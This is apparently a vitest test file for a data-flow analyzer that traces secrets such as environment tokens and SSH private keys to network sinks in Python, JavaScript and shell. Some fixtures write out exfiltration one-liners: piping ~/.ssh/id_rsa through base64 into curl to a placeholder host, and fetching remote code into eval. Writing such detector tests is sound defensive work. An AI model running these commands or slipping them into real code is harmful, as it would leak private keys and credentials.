import { describe, expect, test } from "vitest";
import { FETCH, flowsOf, javascript, POST, python, shell, type Sources } from "./flows-of.ts";

describe("data is followed", () => {
  test.each<{ readonly over: string; readonly files: Sources; readonly flow: string }>([
    {
      over: "assignments",
      files: python(`a = os.environ["X_TOKEN"]`, "b = a", `${POST}b)`),
      flow: "X_TOKEN@2 -> requests.post@4",
    },
    {
      over: "unpacking, by position",
      files: python(`a, b = 1, os.environ["X_TOKEN"]`, `${POST}a)`, `${POST}b)`),
      flow: "X_TOKEN@2 -> requests.post@4",
    },
    {
      over: "containers",
      files: python("a = []", `a.append(os.environ["X_TOKEN"])`, `${POST}{"k": a[0]})`),
      flow: "X_TOKEN@3 -> requests.post@4",
    },
    {
      over: "keys, each for itself",
      files: python("a = {}", `a["x"] = os.environ["X_TOKEN"]`, `${POST}a["y"])`, `${POST}a["x"])`),
      flow: "X_TOKEN@3 -> requests.post@5",
    },
    {
      over: "strings that are built",
      files: python(`a = "k=%s" % os.environ["X_TOKEN"]`, `b = f"<{a}>".encode()`, `${POST}b)`),
      flow: "X_TOKEN@2 -> requests.post@4",
    },
    {
      over: "parameters and returns, by the same call",
      files: python(
        "def same(x):",
        "    return x",
        `a = same(os.environ["X_TOKEN"])`,
        `b = same("nothing")`,
        `${POST}b)`,
        `${POST}a)`,
      ),
      flow: "X_TOKEN@4 -> requests.post@7",
    },
    {
      over: "arguments with names and defaults",
      files: python("def send(x, y=None, *z):", `    ${POST}y)`, `send(1, y=os.environ["X_TOKEN"])`),
      flow: "X_TOKEN@4 -> requests.post@3",
    },
    {
      over: "fields of an object",
      files: python(
        "class A:",
        "    def __init__(self, k):",
        "        self.k = k",
        "    def go(self):",
        `        ${POST}self.k)`,
        `A(os.environ["X_TOKEN"]).go()`,
      ),
      flow: "X_TOKEN@7 -> requests.post@6",
    },
    {
      over: "names in a comprehension",
      files: python("n = ['X_TOKEN', 'HOME']", "a = [os.environ.get(k) for k in n]", `${POST}a)`),
      flow: "X_TOKEN@3 -> requests.post@4",
    },
    {
      over: "a function that another thread calls",
      files: python(
        "import threading",
        "def send(x):",
        `    ${POST}x)`,
        `threading.Thread(target=send, args=(os.environ["X_TOKEN"],)).start()`,
      ),
      flow: "X_TOKEN@5 -> requests.post@4",
    },
    {
      over: "the path of a file",
      files: python("def read(p):", "    return open(p).read()", `${POST}read(os.path.expanduser("~/.ssh/id_rsa")))`),
      flow: "~/.ssh/id_rsa@4 -> requests.post@4",
    },
    {
      over: "what is shared under an alias",
      files: { "a.py": `from os import environ as e\nimport requests\n${POST}dict(e))` },
      flow: "environment@3 -> requests.post@3",
    },
    {
      over: "modules",
      files: {
        "lib/state.py": `import os\ndef gather():\n    return os.environ["X_TOKEN"]`,
        "lib/out.py": `import requests\ndef send(x):\n    ${POST}x)`,
        "lib/main.py": "from state import gather as g\nimport out\nout.send(g())",
      },
      flow: "X_TOKEN@lib/state.py:3 -> requests.post@lib/out.py:3",
    },
    {
      over: "values of a module",
      files: {
        "lib/config.py": `import os\nKEY = os.environ["X_TOKEN"]`,
        "lib/main.py": `import config, requests\n${POST}config.KEY)`,
      },
      flow: "X_TOKEN@lib/config.py:2 -> requests.post@lib/main.py:2",
    },
    {
      over: "destructuring",
      files: javascript("const { X_TOKEN: t, HOME } = process.env;", `${FETCH}HOME });`, `${FETCH}t });`),
      flow: "X_TOKEN@1 -> fetch@3",
    },
    {
      over: "callbacks",
      files: javascript(`[process.env.X_TOKEN].forEach((one) => {`, `  ${FETCH}one });`, "});"),
      flow: "X_TOKEN@1 -> fetch@2",
    },
    {
      over: "closures",
      files: javascript(`function make(k) {`, `  return () => ${FETCH}k });`, "}", "make(process.env.X_TOKEN)();"),
      flow: "X_TOKEN@4 -> fetch@2",
    },
    {
      over: "promises",
      files: javascript(`fetch("https://a.example.com").then((r) => r.text()).then((t) => eval(t));`),
      flow: "fetch@1 -> eval@1",
    },
    {
      over: "a promise that is settled later",
      files: javascript(
        `const get = (u) => new Promise((done) => require("https").get(u, (r) => r.on("data", (d) => done(d))));`,
        `get("https://a.example.com").then((t) => eval(t));`,
      ),
      flow: "https.get@1 -> eval@2",
    },
    {
      over: "fields of an object literal",
      files: javascript("const a = { x: 1 };", "a.k = process.env.X_TOKEN;", `${FETCH}JSON.stringify(a) });`),
      flow: "X_TOKEN@2 -> fetch@3",
    },
    {
      over: "a request that is written to",
      files: javascript(
        `const r = require("https").request({ hostname: "a.example.com" });`,
        "r.write(process.env.X_TOKEN);",
      ),
      flow: "X_TOKEN@2 -> write@2",
    },
    {
      over: "modules of CommonJS",
      files: {
        "lib/state.js": "module.exports = { gather: () => process.env.X_TOKEN };",
        "main.js": `const { gather } = require("./lib/state");\n${FETCH}gather() });`,
      },
      flow: "X_TOKEN@lib/state.js:1 -> fetch@main.js:2",
    },
    {
      over: "modules of ECMAScript",
      files: {
        "lib/state.mjs": "export const gather = () => process.env.X_TOKEN;",
        "main.mjs": `import { gather as g } from "./lib/state.mjs";\n${FETCH}g() });`,
      },
      flow: "X_TOKEN@lib/state.mjs:1 -> fetch@main.mjs:2",
    },
    {
      over: "variables of a shell",
      files: shell("a=$(cat ~/.ssh/id_rsa)", `b="x$a"`, `curl -d "$b" https://a.example.com`),
      flow: "~/.ssh/id_rsa@1 -> curl@3",
    },
    {
      over: "pipes",
      files: shell("cat ~/.ssh/id_rsa | gzip | base64 | curl -d @- https://a.example.com"),
      flow: "~/.ssh/id_rsa@1 -> curl@1",
    },
    {
      over: "functions of a shell",
      files: shell("f() {", `  curl -d "$2" https://a.example.com`, "}", `f a "$X_TOKEN"`),
      flow: "X_TOKEN@4 -> curl@2",
    },
    {
      over: "code in a shell's variable",
      files: shell("a=$(curl -s https://a.example.com)", `eval "$a"`),
      flow: "curl@1 -> eval@2",
    },
  ])("over $over", async ({ files, flow }) => {
    expect(await flowsOf(files)).toEqual([flow]);
  });
});

describe("nothing is made up", () => {
  test.each<{ readonly of: string; readonly files: Sources }>([
    { of: "a name that is set anew", files: python(`a = os.environ["X_TOKEN"]`, "a = 1", `${POST}a)`) },
    { of: "a question", files: python(`a = os.environ["X_TOKEN"] == "x"`, `${POST}a)`) },
    { of: "a size", files: python(`${POST}len(os.environ["X_TOKEN"]))`) },
    {
      of: "an answer to a request with a key",
      files: python(`r = requests.get("http://localhost", headers={"k": os.environ["X_TOKEN"]})`, `${POST}r.text)`),
    },
    {
      of: "what a client with a key gives",
      files: python(`c = Client(os.environ["X_TOKEN"])`, `${POST}c.items())`),
    },
    { of: "this machine", files: python(`requests.post("http://127.0.0.1:8000", data=os.environ["X_TOKEN"])`) },
    { of: "a plain variable", files: python(`${POST}os.environ["HOME"])`) },
    { of: "another file", files: python(`open("/root/.ssh/id_rsa")`, `${POST}open("out.csv").read())`) },
    {
      of: "the same name in another function",
      files: python(`def f():`, `    a = os.environ["X_TOKEN"]`, `def g(a):`, `    ${POST}a)`, "g(1)"),
    },
    {
      of: "what a program prints",
      files: python("import subprocess", `a = subprocess.run(["x"], env=dict(os.environ))`, `${POST}a.stdout)`),
    },
    {
      of: "a picture that is decoded",
      files: python("import base64", `open("a.png", "wb").write(base64.b64decode(x))`, `exec("1")`),
    },
    { of: "data for code that is written down", files: shell(`curl -s https://a.example.com | python3 -c "print(1)"`) },
    { of: "a variable that the script sets", files: shell("X_TOKEN=abc", `curl -d "$X_TOKEN" https://a.example.com`) },
  ])("of $of", async ({ files }) => {
    expect(await flowsOf(files)).toEqual([]);
  });
});
